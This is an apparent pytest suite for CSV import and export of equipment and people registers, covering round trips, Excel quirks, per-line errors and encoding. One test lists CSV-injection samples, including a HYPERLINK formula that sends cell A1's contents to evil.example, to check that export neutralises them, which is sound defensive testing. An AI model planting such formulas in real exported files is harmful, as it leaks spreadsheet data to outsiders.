"""CSV import and export of the registers in this hub's own format: round trip, spreadsheet
quirks, every error kind."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from hub.sheets import (
    ASSET_COLUMNS,
    PEOPLE_COLUMNS,
    AssetRow,
    CsvImportError,
    PersonRow,
    RowError,
    export_assets,
    export_people,
    parse_assets,
    parse_people,
)

ASSET_HEADER = "code,name,category,value,kit,status,acquired,photo_url\n"
PEOPLE_HEADER = "id,name,email,badges,groups,staff\n"


def asset_errors(text: str | bytes) -> list[RowError]:
    with pytest.raises(CsvImportError) as caught:
        parse_assets(text)
    return caught.value.errors


def people_errors(text: str | bytes) -> list[RowError]:
    with pytest.raises(CsvImportError) as caught:
        parse_people(text)
    return caught.value.errors


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_columns_are_the_row_fields_in_order() -> None:
    assert tuple(AssetRow.model_fields) == (*ASSET_COLUMNS, "fields")
    assert tuple(PersonRow.model_fields) == PEOPLE_COLUMNS


def test_assets_round_trip() -> None:
    rows = [
        AssetRow(
            code="cam-1",
            name='Canon R6, body "A"',
            category="Cameras",
            serial="SN 0042",
            home="Shelf 3",
            value="1,234.5",
            photo_url="https://photos.example.org/cam-1.jpg",
            notes="Strap replaced.\nLens cap missing; ask Zoë",
            status="maintenance",
            kit="KIT.1",
            acquired="2023-02-28",
            cost="999",
            supplier="Café Foto GmbH",
        ),
        AssetRow(code="KIT.1", name="Camera kit", category="Kits"),
        AssetRow(code="TRI_2", name="Tripod", category="Grip", value=Decimal("0.1"), cost=0),
    ]
    assert rows[0].code == "CAM-1"
    assert rows[0].value == Decimal("1234.50")

    text = export_assets(rows)

    assert text.splitlines()[0] == ",".join(ASSET_COLUMNS)
    assert parse_assets(text) == rows
    assert parse_assets(export_assets(parse_assets(text))) == rows


def test_people_round_trip() -> None:
    rows = [
        PersonRow(
            id="ada",
            name="Ada Lovelace",
            email="ada@example.org",
            badges="04a1b2c3; 04A1B2C3D4E5F6",
            groups="Film 101;Photo club;Film 101",
            staff="Yes",
        ),
        PersonRow(id="grace.h", name="Grace Hopper", staff=False),
        PersonRow(id="x", name="No flags"),
    ]
    assert rows[0].badges == ["04A1B2C3", "04A1B2C3D4E5F6"]
    assert rows[0].groups == ["Film 101", "Photo club"]

    text = export_people(rows)

    assert cells(text)[1] == [
        "ada",
        "Ada Lovelace",
        "ada@example.org",
        "04A1B2C3;04A1B2C3D4E5F6",
        "Film 101;Photo club",
        "yes",
    ]
    assert cells(text)[2][5] == "no" and cells(text)[3][5] == ""
    assert parse_people(text) == rows


def test_a_file_saved_by_excel() -> None:
    data = (
        "\ufeff Code ;NAME;Category; Value ;Acquired;Notes\r\n"
        "cam-1;Canon R6;Cameras;1,234.50;2024-03-31;fragile, handle with care\r\n"
        "\r\n"
        ";;;;;\r\n"
        'TRI-2;"Tripod; carbon";Grip;80;;\r\n'
    ).encode()

    rows = parse_assets(data)

    assert [row.code for row in rows] == ["CAM-1", "TRI-2"]
    assert rows[0].value == Decimal("1234.50")
    assert rows[0].acquired == date(2024, 3, 31)
    assert rows[0].notes == "fragile, handle with care"
    assert rows[1].name == "Tripod; carbon"
    assert rows[1].acquired is None and rows[1].serial is None


def test_people_from_excel_with_odd_header_and_column_order() -> None:
    text = "\ufeffStaff;Badges;ID;Name\r\nYES;04a1b2c3;ada;Ada\r\n0;;bob;Bob\r\n"

    rows = parse_people(text)

    assert rows == [
        PersonRow(id="ada", name="Ada", badges=["04A1B2C3"], staff=True),
        PersonRow(id="bob", name="Bob", staff=False),
    ]


def test_blank_cells_are_not_set_and_short_lines_are_padded() -> None:
    rows = parse_assets("code,name,category,serial,notes\nA,B,C\nD,E,F,  ,\n")

    assert rows == [
        AssetRow(code="A", name="B", category="C"),
        AssetRow(code="D", name="E", category="F"),
    ]
    assert rows[0].serial is None and rows[1].notes is None


def test_a_header_only_file_has_no_rows() -> None:
    assert parse_assets("code,name,category\r\n") == []


@pytest.mark.parametrize(
    ("line", "column", "fragment"),
    [
        ("A,,Cams,,,,,", "name", "is required"),
        ("A B,Cam,Cams,,,,,", "code", "not an asset code"),
        ("-A,Cam,Cams,,,,,", "code", "not an asset code"),
        ("A,Cam,Cams,abc,,,,", "value", "must be an amount such as 1234.50"),
        ('A,Cam,Cams,"12,5,5",,,,', "value", "must be an amount"),
        ("A,Cam,Cams,1.2.3,,,,", "value", "must be an amount"),
        ("A,Cam,Cams,-3,,,,", "value", "must not be negative"),
        ("A,Cam,Cams,1.005,,,,", "value", "more than 2 decimal places"),
        ("A,Cam,Cams,1e3,,,,", "value", "must be an amount"),
        ("A,Cam,Cams,99999999999,,,,", "value", "too large"),
        ("A,Cam,Cams,,a,,,", "kit", "A cannot be a piece of itself"),
        ("A,Cam,Cams,,K K,,,", "kit", "not an asset code"),
        ("A,Cam,Cams,,,lost,,", "status", "must be one of available, maintenance, retired"),
        ("A,Cam,Cams,,,out,,", "status", "'out' is set by a checkout"),
        ("A,Cam,Cams,,,,03/04/2024,", "acquired", "either day of the month first"),
        ("A,Cam,Cams,,,,next tuesday,", "acquired", "must be a date such as 2024-03-31"),
        ("A,Cam,Cams,,,,2023-02-29,", "acquired", "not a day of the calendar"),
        ("A,Cam,Cams,,,,,ftp://x.org/a.jpg", "photo_url", "http:// or https://"),
        ("A,Cam,Cams,,,,,https://", "photo_url", "http:// or https://"),
        ("A," + "n" * 201 + ",Cams,,,,,", "name", "at most 200 fit"),
        ("A,Cam,Cams,,,,,,surplus", None, "has 9 values but the header names 8"),
    ],
)
def test_each_asset_error_names_its_line_and_column(
    line: str, column: str | None, fragment: str
) -> None:
    errors = asset_errors(ASSET_HEADER + "OK-1,Fine,Cams,,,,,\n\n" + line + "\n")

    assert [(error.line, error.column) for error in errors] == [(4, column)]
    assert fragment in errors[0].message


@pytest.mark.parametrize(
    ("line", "column", "fragment"),
    [
        ("a b,Ann,,,,", "id", "must not contain spaces"),
        ("," + "Ann,,,,", "id", "is required"),
        ("ann,Ann,not-an-address,,,", "email", "not an email address"),
        ("ann,Ann,,04A1B2C,,", "badges", "8, 14 or 20 hex digits"),
        ("ann,Ann,,04A1B2CG,,", "badges", "8, 14 or 20 hex digits"),
        ("ann,Ann,,04a1b2c3;04A1B2C3,,", "badges", "listed twice"),
        ("ann,Ann,,,,maybe", "staff", "must be yes or no"),
        ("ann,Ann,,," + ";".join(f"group-{n:03}" for n in range(60)) + ",", "groups", "500"),
        ("ann,Ann,,," + "g" * 65 + ",", "groups", "longer than 64"),
    ],
)
def test_each_person_error_names_its_line_and_column(line: str, column: str, fragment: str) -> None:
    errors = people_errors(PEOPLE_HEADER + "bob,Bob,,,,\n" + line + "\n")

    assert [(error.line, error.column) for error in errors] == [(3, column)]
    assert fragment in errors[0].message


def test_a_duplicate_code_is_reported_on_the_later_line_even_in_other_case() -> None:
    errors = asset_errors("code,name,category\ncam-1,A,C\nOTHER,B,C\nCAM-1,D,C\n")

    assert errors == [RowError(4, "code", "CAM-1 is already on line 2")]


def test_a_duplicate_code_shows_on_a_row_with_other_faults() -> None:
    errors = asset_errors("code,name,category,value\nA,x,C,\nA,x,C,lots\n")

    assert [(error.line, error.column) for error in errors] == [(3, "code"), (3, "value")]


def test_duplicate_people_ids_and_badges_are_reported_on_the_later_line() -> None:
    errors = people_errors(
        PEOPLE_HEADER + "ann,Ann,,04A1B2C3,,\nbob,Bob,,04a1b2c3,,\nann,Ann again,,,,\n"
    )

    assert errors == [
        RowError(3, "badges", "badge 04A1B2C3 is already on line 2 (ann)"),
        RowError(4, "id", "ann is already on line 2"),
    ]


def test_a_kit_may_name_an_asset_the_file_does_not_hold() -> None:
    [row] = parse_assets("code,name,category,kit\nLENS-1,Lens,Optics,kit-9\n")

    assert row.kit == "KIT-9"


def test_a_misspelt_column_is_named_and_the_rows_are_still_checked() -> None:
    errors = asset_errors("code,name,category,hmoe,colour\nA,B,C,x,y\nD,,C,,\n")

    assert [(error.line, error.column) for error in errors] == [(1, None), (3, "name")]
    assert "'hmoe' (did you mean 'home'?)" in errors[0].message
    assert "colour" not in str(errors)  # not like any of ours: kept as the item's own field


def test_a_column_unlike_ours_is_kept_as_the_items_own_field() -> None:
    [row] = parse_assets("code,name,category,colour\nA,B,C,red\n")

    assert row.fields == {"colour": "red"}


def test_missing_required_columns_give_one_error() -> None:
    errors = asset_errors("Code;Notes\nA;x\nB;y\n")

    assert len(errors) == 1 and errors[0].line == 1
    assert "no column gives name, category" in errors[0].message


def test_a_column_named_twice_is_an_error() -> None:
    errors = people_errors("id,name,Name\nann,Ann,Ann\n")

    assert errors == [
        RowError(1, None, "columns 'name' and 'Name' both go to name (columns named twice?)")
    ]


def test_a_value_under_a_column_with_no_header_is_an_error() -> None:
    assert parse_people("id,name,\nann,Ann,\n") == [PersonRow(id="ann", name="Ann")]

    errors = people_errors("id,name,\nann,Ann,stray\n")

    assert [(error.line, error.column) for error in errors] == [(2, None)]


def test_an_empty_file_is_an_error() -> None:
    for text in ("", "\ufeff", "\r\n\r\n"):
        errors = asset_errors(text)
        assert [error.line for error in errors] == [1]
        assert "empty" in errors[0].message


def test_an_unclosed_quote_is_reported_where_it_opens() -> None:
    errors = asset_errors('code,name,category\nA,B,C\nD,"E,F\nG,H,I\n')

    assert [error.line for error in errors] == [3]
    assert "closing quote" in errors[0].message


def test_lines_are_physical_lines_across_multi_line_values() -> None:
    errors = asset_errors('code,name,category,notes\nA,B,C,"one\ntwo\nthree"\n\nD,E,C,\nF,,C,\n')

    assert [(error.line, error.column) for error in errors] == [(7, "name")]


def test_three_bad_rows_among_a_hundred_are_exactly_reported() -> None:
    lines = [f"A-{n},Item {n},Cams,{n}.50\n" for n in range(100)]
    lines[10] = "A-10,Item 10,Cams,ten\n"  # line 12
    lines[49] = "A-49,,Cams,1\n"  # line 51
    lines[97] = "A-1,Copy,Cams,1\n"  # line 99: a code that line 3 holds already

    errors = asset_errors("code,name,category,value\n" + "".join(lines))

    assert [(error.line, error.column) for error in errors] == [
        (12, "value"),
        (51, "name"),
        (99, "code"),
    ]


def test_the_error_lists_every_problem_readably() -> None:
    with pytest.raises(CsvImportError) as caught:
        parse_assets("code,name,category,value\nA,B,C,1\nD,E,F,1\nG,H,I,x\nJ,,L,\n")

    assert str(caught.value).splitlines() == [
        "line 4, value: must be an amount such as 1234.50, 1,234.50 or $1,234.50, not 'x'",
        "line 5, name: is required",
    ]


def test_formula_values_are_neutralised_and_round_trip() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+2",
        "-2-3",
        "@SUM(A1:A2)",
        "'=already quoted",
        "'plain quote",
    ]
    rows = [
        AssetRow(code=f"A{n}", name=value, category="C", notes=value)
        for n, value in enumerate(hostile)
    ]

    text = export_assets(rows)

    body = cells(text)[1:]
    assert [line[1] for line in body] == [
        "'" + hostile[0],
        "'+1+2",
        "'-2-3",
        "'@SUM(A1:A2)",
        "''=already quoted",
        "'plain quote",
    ]
    assert parse_assets(text) == rows


def test_tab_and_carriage_return_starts_are_neutralised() -> None:
    text = export_people([{"id": "ann", "name": "\tcmd", "groups": "\rx"}])

    row = cells(text)[1]
    assert row[1] == "'\tcmd" and row[4] == "'\rx"


def test_export_formats_database_values() -> None:
    text = export_assets(
        [
            {
                "code": "A",
                "name": "Cam",
                "category": "C",
                "value": 0.1 + 0.2,
                "cost": Decimal("1E+3"),
                "acquired": date(2024, 1, 5),
                "status": "out",
                "kit": None,
                "home": "not a column of the file",
            },
            {"code": "B", "name": "Lens", "category": "C", "value": 12, "status": "retired"},
        ]
    )

    header, first, second = cells(text)
    assert header == list(ASSET_COLUMNS)
    record = dict(zip(header, first, strict=True))
    assert record["value"] == "0.30" and record["cost"] == "1000.00"
    assert record["acquired"] == "2024-01-05"
    assert record["status"] == ""  # an import cannot set out; blank keeps it
    assert record["kit"] == ""
    assert dict(zip(header, second, strict=True))["value"] == "12.00"
    assert text.endswith("\r\n")
    assert [row.status for row in parse_assets(text)] == [None, "retired"]


def test_export_people_joins_badges_and_groups() -> None:
    text = export_people(
        [{"id": "ann", "name": "Ann", "badges": ("04A1B2C3", "0AFFEE11"), "groups": "a;b"}]
    )

    assert cells(text)[1] == ["ann", "Ann", "", "04A1B2C3;0AFFEE11", "a;b", ""]


def test_a_latin1_file_is_refused_with_advice() -> None:
    data = "id,name\nbob,Bob\nzoe,Zoë Ångström\n".encode("latin-1")

    for sample in (data, codecs.BOM_UTF8 + data):
        errors = people_errors(sample)
        assert [error.line for error in errors] == [3]
        assert "not UTF-8" in errors[0].message
        assert "CSV UTF-8" in errors[0].message


def test_utf8_bytes_with_and_without_bom_are_read() -> None:
    text = "id,name\nzoe,Zoë Ångström\n"

    for data in (text.encode(), text.encode("utf-8-sig")):
        assert parse_people(data) == [PersonRow(id="zoe", name="Zoë Ångström")]


def test_rows_refuse_unknown_fields() -> None:
    with pytest.raises(ValueError, match="Extra inputs"):
        AssetRow.model_validate({"code": "A", "name": "B", "category": "C", "colour": "red"})
